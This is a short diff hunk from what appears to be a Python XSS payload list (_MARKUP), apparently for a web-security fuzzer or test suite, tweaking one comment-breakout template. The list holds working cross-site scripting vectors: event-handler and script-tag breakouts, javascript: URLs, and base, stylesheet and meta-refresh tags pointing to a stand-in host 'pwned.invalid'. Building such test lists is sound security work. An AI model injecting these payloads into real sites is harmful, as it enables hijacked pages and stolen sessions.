@@ -14,7 +14,7 @@ _MARKUP = [
     "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>", "<details open ontoggle={}>",
     "<iframe srcdoc='<script>parent.{}</script>'>", "<a href='javascript:{}'>pwned</a>",
     "<input autofocus onfocus={}>", "\"><script>{}</script>", "'><script>{}</script>",
-    "--><script>{}</script>", "]]><script>{}</script>", "</title><script>{}</script>",
+    "x--><script>{}</script>", "]]><script>{}</script>", "</title><script>{}</script>",
     "</style><script>{}</script>", "</textarea><script>{}</script>", "<video><source onerror={}>",
     "<math><mtext><script>{}</script>", "<object data='javascript:{}'>", "<base href='//pwned.invalid/'>",
     "<link rel=stylesheet href='//pwned.invalid/x.css'>", "<meta http-equiv=refresh content='0;//pwned.invalid'>",
